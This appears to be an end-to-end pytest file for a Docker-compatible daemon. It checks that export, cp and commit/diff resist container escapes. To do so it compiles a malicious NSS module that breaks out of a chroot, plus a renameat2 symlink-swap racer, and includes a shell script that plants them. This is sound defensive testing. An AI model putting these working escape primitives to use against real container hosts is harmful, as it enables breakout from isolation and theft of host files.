"""Attacks on the archive helpers through an image's or a container's own files (issue 13).

Escape 1 (CVE-2019-14271 class): the helpers of `docker export` and `docker cp` run as root
inside the container's root; a user or group name lookup there makes glibc read the container's
/etc/nsswitch.conf and load its libnss_*.so.2. The image here ships both: the module, compiled
here, writes a marker at the root it runs in, breaks out of the chroot (mkdir + chroot + chdir
..) and writes a host canary. Neither may ever appear, and the tar entries carry numeric owners
and empty user and group names (moby's chrootarchive: FileInfoHeaderNoLookups).

Escape 8: a running container swaps a directory with a symlink to a host directory
(renameat2(RENAME_EXCHANGE), a static program compiled here) while the daemon commits it with
--pause=false and diffs it, many times: no committed layer may hold the host canary's bytes, no
diff may list the host directory's file names.
"""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import tarfile
import uuid
from pathlib import Path

import attrs
import pytest

from tests.helpers.daemon import DOCKER, PydDaemon, wait_until
from tests.helpers.images import DEFAULT_TAG, File, load_busybox

pytestmark = pytest.mark.e2e

CC = shutil.which("cc") or shutil.which("gcc") or "cc"

_NSS_SOURCE = r"""
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void pwn(void) {
    int fd = open("/pyd-nss-loaded", O_CREAT | O_WRONLY, 0644);
    if (fd >= 0) close(fd);
    mkdir("/.pyd-nss-esc", 0755);
    if (chroot("/.pyd-nss-esc") == 0) {
        for (int i = 0; i < 64; i++) chdir("..");
        chroot(".");
    }
    fd = open(CANARY, O_CREAT | O_WRONLY, 0644);
    if (fd >= 0) {
        write(fd, "pwned\n", 6);
        close(fd);
    }
}
"""

_EXCHANGE_SOURCE = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    for (;;) {
        if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
            perror("renameat2");
            return 1;
        }
    }
}
"""


def _name() -> str:
    return "pyd-t-" + uuid.uuid4().hex[:10]


def _compile(tmp: Path, source: str, out: str, *flags: str) -> bytes:
    src = tmp / (out + ".c")
    src.write_text(source)
    subprocess.run([CC, *flags, "-o", str(tmp / out), str(src)], check=True, timeout=120)
    return (tmp / out).read_bytes()


def _multiarch() -> str:
    r = subprocess.run([CC, "-print-multiarch"], capture_output=True, text=True, check=False)
    return r.stdout.strip() or "x86_64-linux-gnu"


def _docker_to_file(daemon: PydDaemon, out: Path, *args: str) -> str:
    """Run the CLI with its stdout in C{out}; return its error output ("" when it succeeded)."""
    env = {**os.environ, "DOCKER_HOST": daemon.host, "DOCKER_CONFIG": str(daemon.base / "dc")}
    env.pop("DOCKER_CONTEXT", None)
    with out.open("wb") as f:
        r = subprocess.run([DOCKER, *args], stdout=f, stderr=subprocess.PIPE, env=env, timeout=120)
    return "" if r.returncode == 0 else r.stderr.decode() or f"exit status {r.returncode}"


@pytest.fixture
def canary_dir(tmp_path: Path) -> Path:
    """A host directory the attacks aim at (removed with tmp_path)."""
    d = tmp_path / "host"
    d.mkdir()
    return d


@attrs.frozen
class EvilNss:
    """Two images: C{shipped} carries the hostile nsswitch.conf and NSS module; C{payload}
    carries the module at /payload only, for a running container to plant both itself."""

    shipped: str
    payload: str
    canary: Path
    libdirs: tuple[str, ...]


@pytest.fixture
def evil_nss(pyd: PydDaemon, tmp_path: Path, canary_dir: Path) -> EvilNss:
    """The NSS module writes the host canary (after breaking out of the chroot) when glibc
    loads it."""
    canary = canary_dir / "nss-pwned"
    lib = _compile(
        tmp_path, _NSS_SOURCE, "libnss_evil.so.2",
        "-shared", "-fPIC", "-nostdlib", f'-DCANARY="{canary}"',
    )  # fmt: skip
    arch = _multiarch()
    libdirs = ("/lib", "/lib64", "/usr/lib", f"/lib/{arch}", f"/usr/lib/{arch}")
    owned: dict[str, bytes | str | File | None] = {
        "/data/owned-by-app": File(data=b"app's\n", uid=1000, gid=1000),
        "/data/owned-by-nobody": File(data=b"nobody's\n", uid=65534, gid=65534),
    }
    files = dict(owned)
    files.update({f"{d}/libnss_evil.so.2": File(data=lib, mode=0o755) for d in libdirs})
    files["/etc/nsswitch.conf"] = _NSSWITCH
    shipped = f"{_name()}/evil-nss:1"
    load_busybox(pyd, tag=shipped, extra_files=files)
    payload = f"{_name()}/evil-nss-payload:1"
    load_busybox(
        pyd,
        tag=payload,
        extra_files={**owned, "/payload/libnss_evil.so.2": File(data=lib, mode=0o755)},
    )
    return EvilNss(shipped, payload, canary, libdirs)


_NSSWITCH = "passwd: evil\ngroup: evil\nshadow: evil\n"


def _check_numeric(tar_path: Path, prefix: str) -> None:
    with tarfile.open(tar_path) as tf:
        members = tf.getmembers()
    assert members, "empty archive"
    named = [(m.name, m.uname, m.gname) for m in members if m.uname or m.gname]
    assert named == [], f"entries with user/group names: {named[:5]}"
    owners = {m.name.lstrip("./"): (m.uid, m.gid) for m in members}
    assert owners[prefix + "data/owned-by-app"] == (1000, 1000)
    assert owners[prefix + "data/owned-by-nobody"] == (65534, 65534)


class NssEscapeTests:
    """Escape 1: export and cp out of a running and a stopped container load no NSS module of
    the container."""

    @pytest.mark.parametrize("how", ["running", "stopped", "planted"])
    def test_export_and_cp_out_load_nothing_from_the_container(
        self, pyd: PydDaemon, evil_nss: EvilNss, tmp_path: Path, how: str
    ) -> None:
        """Export and `docker cp c:/ -` of a container whose image carries a hostile
        nsswitch.conf and NSS module (running or stopped), or whose running process plants
        both itself: the module never runs (no marker in the container, no host canary), and
        every entry has numeric owners only."""
        canary = evil_nss.canary
        n = _name()
        if how == "running":
            pyd.docker("run", "-d", "--name", n, evil_nss.shipped, "sleep", "300")
        elif how == "stopped":
            pyd.docker("create", "--name", n, evil_nss.shipped, "sleep", "300")
        else:
            plant = "".join(
                f"mkdir -p {d} && cp /payload/libnss_evil.so.2 {d}/ && " for d in evil_nss.libdirs
            )
            nsswitch = _NSSWITCH.replace("\n", "\\n")
            script = f"{plant}printf '{nsswitch}' > /etc/nsswitch.conf && touch /planted; sleep 300"
            pyd.docker("run", "-d", "--name", n, evil_nss.payload, "sh", "-c", script)
            wait_until(
                lambda: pyd.docker("exec", n, "test", "-e", "/planted", check=False).returncode == 0
            )
        exported, copied, copied_dir = (tmp_path / f for f in ("x.tar", "cp.tar", "cpd.tar"))
        errors = [
            _docker_to_file(pyd, exported, "export", n),
            _docker_to_file(pyd, copied, "cp", f"{n}:/", "-"),
            _docker_to_file(pyd, copied_dir, "cp", f"{n}:/data", "-"),
        ]

        assert not canary.exists(), "the container's NSS module ran on the host"
        diff = pyd.docker("diff", n).stdout
        assert "/pyd-nss-loaded" not in diff and "/.pyd-nss-esc" not in diff, diff
        assert errors == ["", "", ""]
        _check_numeric(exported, "")
        _check_numeric(copied, "")
        with tarfile.open(copied_dir) as tf:
            members = tf.getmembers()
        assert [m.name for m in members if m.uname or m.gname] == []
        assert {m.name: m.uid for m in members}["data/owned-by-app"] == 1000


@pytest.fixture
def exchange_image(pyd: PydDaemon, tmp_path: Path) -> str:
    """The busybox image with a static program that swaps two names forever
    (renameat2(RENAME_EXCHANGE))."""
    prog = _compile(tmp_path, _EXCHANGE_SOURCE, "exch", "-static", "-O2")
    tag = f"{_name()}/exchange:1"
    load_busybox(pyd, tag=tag, extra_files={"/usr/local/bin/exch": File(data=prog, mode=0o755)})
    return tag


RACE_ROUNDS = 20


class ExchangeRaceTests:
    """Escape 8: commit (--pause=false) and diff of a container racing RENAME_EXCHANGE."""

    def test_commit_and_diff_never_read_the_host(
        self, pyd: PydDaemon, exchange_image: str, canary_dir: Path, tmp_path: Path
    ) -> None:
        """The container swaps /x/d (a directory holding `secret`) with /x/l (a symlink to a
        host directory holding a `secret` of unique content and a file of unique name) as fast
        as it can, while the daemon commits it without pausing and diffs it, round after round:
        no committed layer holds the host file's bytes or name, no diff lists the host name."""
        secret = f"host-canary-{uuid.uuid4().hex}".encode()
        host_only = f"host-only-{uuid.uuid4().hex[:12]}"
        (canary_dir / "secret").write_bytes(secret)
        (canary_dir / host_only).write_bytes(secret)
        n = _name()
        script = (
            f"mkdir -p /x/d && echo innocent > /x/d/secret && ln -s {canary_dir} /x/l "
            "&& exec /usr/local/bin/exch /x/d /x/l"
        )
        pyd.docker("run", "-d", "--name", n, exchange_image, "sh", "-c", script)
        images, failures = [], []
        leaked_names: list[str] = []
        for i in range(RACE_ROUNDS):
            image = f"{n}-commit:{i}"
            r = pyd.docker("commit", "--pause=false", n, image, check=False)
            if r.returncode == 0:
                images.append(image)
            else:
                failures.append(r.stderr)
            r = pyd.docker("diff", n, check=False)
            if r.returncode != 0:
                failures.append(r.stderr)
            leaked_names += [line for line in r.stdout.splitlines() if host_only in line]
        # the racer was racing all along (it exits only when renameat2 fails)
        assert pyd.docker("inspect", "-f", "{{.State.Running}}", n).stdout.strip() == "true"
        saved = tmp_path / "committed.tar"
        assert images, failures
        pyd.docker("save", "-o", str(saved), *images, timeout=300)
        data = saved.read_bytes()
        content_leaked, name_leaked = secret in data, host_only.encode() in data
        assert not content_leaked, "a host file's content is in a committed image"
        assert not name_leaked, "a host file's name is in a committed image"
        assert leaked_names == []
        assert failures == []


class PutArchiveTests:
    """PUT archive refuses what it cannot extract with a 4xx and a plain message."""

    def test_hard_link_to_a_missing_name(self, pyd: PydDaemon) -> None:
        """A hard link to a name neither in the container nor in the archive: 400, a plain
        message without Python or errno text."""
        n = _name()
        pyd.docker("create", "--name", n, DEFAULT_TAG, "true")
        buf = io.BytesIO()
        with tarfile.open(fileobj=buf, mode="w") as tf:
            info = tarfile.TarInfo("a")
            info.type = tarfile.LNKTYPE
            info.linkname = "nope/missing"
            tf.addfile(info)
        status, _, body = pyd.request(
            "PUT",
            f"/containers/{n}/archive?path=/tmp",
            buf.getvalue(),
            {"Content-Type": "application/x-tar"},
        )
        assert status == 400, body
        message = json.loads(body)["message"]
        assert message == (
            "Error processing tar file(hard link 'a' points to 'nope/missing', "
            "which does not exist)"
        )
